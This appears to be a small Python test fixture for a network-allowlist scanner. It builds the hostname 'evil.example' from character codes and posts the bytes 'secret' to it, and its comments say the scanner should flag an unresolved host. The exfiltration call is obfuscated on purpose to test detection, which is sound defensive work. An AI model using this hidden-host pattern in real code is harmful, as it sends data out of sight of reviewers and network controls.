# validated with the network allowlist: api.example.com
# family: host assembled at run time from character codes
# expected finding: unresolved-host
import urllib.request

h = "".join(map(chr, [101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101]))
req = urllib.request.Request(f"https://{h}/x", data=b"secret")
urllib.request.urlopen(req)
